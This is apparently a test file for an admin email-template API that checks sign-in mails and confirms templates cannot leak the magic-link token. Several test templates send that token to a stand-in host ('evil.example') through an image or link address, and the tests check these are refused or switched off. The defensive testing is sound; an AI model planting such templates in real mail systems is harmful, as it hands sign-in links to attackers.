import pg from 'pg';
import { startApplication, type TestApplication } from '../../../../../test/support/application.js';
import { expectStatus, Person } from '../../../../../test/support/people.js';
import type { EmailTemplateView } from '../../published/template-views.js';
import { CachedTemplates } from '../../application/cached-templates.js';

const BASE = '/api/admin/email-templates';
let site: TestApplication;
let admin: Person;

beforeAll(async () => {
  site = await startApplication();
  admin = new Person(site.url, 'admin@porchlight.test');
  await admin.signIn();
});
afterEach(() => expectStatus(admin.post(`${BASE}/magic-link/restore`, {}), 200));
afterAll(() => site.close());

const put = (id: string, body: object) => admin.call('PUT', `${BASE}/${id}`, { body });

/** Puts a text in the place of the saved one, as an earlier version could have. */
async function store(html: string): Promise<void> {
  await expectStatus(put('magic-link', { subject: 'Salut', html: '<p>Mine</p>' }), 200);
  const database = new pg.Client({ connectionString: site.databaseUrl });
  await database.connect();
  const change = "UPDATE notifications.email_template_text SET html = $1 WHERE template_id = 'magic-link'";
  await database.query(change, [html]).finally(() => database.end());
  site.app.get(CachedTemplates).forget();
}

const EVIL = 'https://evil.example/p';
/** Asks for a code, and returns the message. */
const signInMail = async (name: string) => {
  const person = new Person(site.url, `${name}@example.ca`);
  await expectStatus(person.post('/api/auth/send-otp', { email: person.email }), 200);
  return person.mail(/\d{6}$/);
};
const linkIn = (part: string): string | undefined => /\/auth\/link#([\w-]+)/.exec(part)?.[1];

describe('A message', () => {
  it('of a sign-in has the saved text, and the code and link that the frame writes', async () => {
    await expectStatus(put('magic-link', { subject: 'Salut', html: '<p>Bonjour</p>' }), 200);
    const { subject, text, html } = await signInMail('louis');
    const code = /^Salut: (\d{6})$/.exec(subject)?.[1] ?? '';
    expect(text).toMatch(new RegExp(`^Bonjour\n\n${code}\n\n[^]*\nSign in without the code:\n${site.url}/auth/link#`));
    expect(html).toMatch(new RegExp(`<p>Bonjour</p>[^]*>${code}</p>[^]*<a href="${site.url}/auth/link#`));
    const token = linkIn(html);
    expect(linkIn(text)).toBe(token);
    await expectStatus(site.client().post('/api/auth/verify-link', { token }), 200);
    expect((await signInMail('zoe')).subject).toMatch(/^Salut: /);
  });

  it('passes nothing on through a text: an administrator is refused too, with line and reason', async () => {
    const token = "{{ link | split: '#' | last }}";
    const refusal = async (id: string, html: string) => {
      const { status, body } = await put(id, { subject: 'Hello', html });
      return [status, (body as { message: string }).message];
    };
    const framed = 'Line 2: the frame of the mail writes “link” below the text, where no text can pass it on.';
    expect(await refusal('magic-link', `<p>a</p>\n<img src="${EVIL}/${token}" alt="">`)).toEqual([400, framed]);
    const ours = `is on our own site (${site.url}/…) and written out.`;
    const picture = `Line 2: a picture’s address ${ours}`;
    expect(await refusal('cancellation', `<p>a</p>\n<img src="${EVIL}/${token}" alt="">`)).toEqual([400, picture]);
    expect(await refusal('cancellation', `<p>a</p>\n<img src="${site.url}/a/${token}" alt="">`)).toEqual([
      400,
      picture,
    ]);
    expect((await refusal('cancellation', `<p>a</p>\n<a href="${EVIL}?{{ link }}">a</a>`))[1]).toMatch(
      /^Line 2: a link’s address is a variable alone/,
    );
    const fine = `<p>a</p><img src="${site.url}/a.png" alt="">`;
    await expectStatus(put('cancellation', { subject: 'Hello', html: fine }), 200);
    await expectStatus(admin.post(`${BASE}/cancellation/restore`, {}), 200);
  });

  it.each([
    [
      'of before this rule',
      `<p>Salut {{ code }}</p><img alt="" src="${EVIL}/{{ link | split: "#" | last }}">`,
      /“code”/,
    ],
    ['that is broken', '{% if %}', /^Line 1: /],
  ])('uses no text %s: it is shown as switched off, until it is mended', async (what, stored, because) => {
    await store(stored);
    const { subject, html } = await signInMail(`paul-${String(what.length)}`);
    expect(subject).toMatch(/^Your Porchlight code: \d{6}$/);
    expect(html).not.toContain('evil');
    const { templates } = (await expectStatus<{ templates: EmailTemplateView[] }>(admin.get(BASE), 200)).body;
    const off = templates.find(({ id }) => id === 'magic-link');
    expect(off).toMatchObject({ isEdited: true, html: stored });
    expect(off?.switchedOffBecause[0]).toMatch(because);
    const mended = await expectStatus<EmailTemplateView>(put('magic-link', { subject: 'a', html: '<p>b</p>' }), 200);
    expect(mended.body.switchedOffBecause).toEqual([]);
  });

  it('is previewed with an example of the code and link', async () => {
    const text = { subject: 'Mine', html: '<p>Mine</p>' };
    for (const showVariables of [false, true]) {
      const shown = admin.post<Record<string, string>>(`${BASE}/magic-link/preview`, { ...text, showVariables });
      const { subject, html, text: plain } = (await expectStatus(shown, 200)).body;
      expect(subject).toBe('Mine: 123456');
      for (const part of [html, plain]) expect(part).toMatch(/\b123456\b[^]*Ab12Cd34/);
    }
  });
});
